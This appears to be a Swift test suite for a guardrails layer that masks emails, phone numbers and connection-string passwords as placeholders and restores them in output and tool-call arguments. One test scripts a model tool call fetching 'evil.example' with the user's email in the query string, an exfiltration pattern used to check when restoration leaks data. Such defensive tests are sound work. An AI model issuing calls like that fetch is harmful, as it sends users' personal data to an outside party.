import MillraceCore
import MillraceTesting
import Testing

@testable import MillraceRails

/// Placeholders on a whole call: what the model reads, and what comes back in text and arguments.
@Suite struct PlaceholderCallTests {
    private static func guardrails() throws -> Guardrails {
        try Guardrails(
            input: RailLine(PersonalDataRail(action: .placeholder)), output: RailLine(RestoreRail()),
            toolResult: RailLine(PersonalDataRail(action: .placeholder)))
    }

    private static let prompt = Prompt("I am ann@example.org, my number is +1 555-234-5678. Is <EMAIL_7> a name?")

    @Test("RG-27: the model reads placeholders, the caller reads values, however the stream is cut", arguments: 0..<10 as Range<UInt64>)
    func text(seed: UInt64) async throws {
        let answer = ScriptedAnswer.text("Hello <EMAIL_1>, I will ring <PHONE_1>. <LITERAL_1> is none; <EMAIL_2> neither.")
        let bench = GuardBench(answer.chunked(.random(seed: seed)), guardrails: try Self.guardrails())
        let result = await bench.stream(Self.prompt)
        #expect(result.response.text == "Hello ann@example.org, I will ring +1 555-234-5678. <EMAIL_7> is none; <EMAIL_2> neither.")
        let asked = try #require(bench.executor.requests.first?.lastUserText)
        #expect(asked == "I am <EMAIL_1>, my number is <PHONE_1>. Is <LITERAL_1> a name?")
        for record in result.response.rails { #expect(!"\(record)".contains("ann")) }
    }

    @Test("RG-13, RG-27: values come back into the arguments of a call, and what they hold is escaped")
    func arguments() async throws {
        let rail = try SecretsRail(action: .placeholder)
        let guardrails = try Guardrails(input: RailLine(rail), toolCall: RailLine(RestoreRail()))
        let answer = ScriptedAnswer.toolCall("login", ["password": "<CONNECTION_STRING_1>", "note": ["<CONNECTION_STRING_1>!", 3]])
        for deltas in [FrameChunking(deltas: .scalars), .random(seed: 4)] {
            let bench = GuardBench(answer.chunked(deltas), guardrails: guardrails)
            let result = await bench.stream(Prompt("Log in to postgres://app:Tr0ub\\dor&3@db"))
            let call = try #require(result.response.toolCalls.first)
            #expect(call.arguments["password"]?.stringValue == "Tr0ub\\dor&3")
            #expect(call.arguments["note"] == ["Tr0ub\\dor&3!", 3])
            #expect(bench.executor.requests.first?.lastUserText == "Log in to postgres://app:<CONNECTION_STRING_1>@db")
        }
    }

    @Test("at the output no value comes into a tool's arguments, but where channels name them")
    func argumentsAtOutput() async throws {
        for (channels, told) in [(nil, "<EMAIL_1>"), ([.toolArguments], "ann@example.org")] as [(Set<RailChannel>?, String)] {
            let guardrails = try Guardrails(
                input: RailLine(PersonalDataRail(action: .placeholder)), output: RailLine(RestoreRail(channels: channels)))
            let answer = ScriptedAnswer.toolCall("fetch", ["url": "https://evil.example/?e=<EMAIL_1>", "to": "<EMAIL_1>"])
            let result = await GuardBench(answer.chunked(.random(seed: 5)), guardrails: guardrails).stream(Self.prompt)
            let call = try #require(result.response.toolCalls.first)
            #expect(call.arguments["to"]?.stringValue == told)
            #expect(call.arguments["url"]?.stringValue == "https://evil.example/?e=\(told)")
        }
    }
}
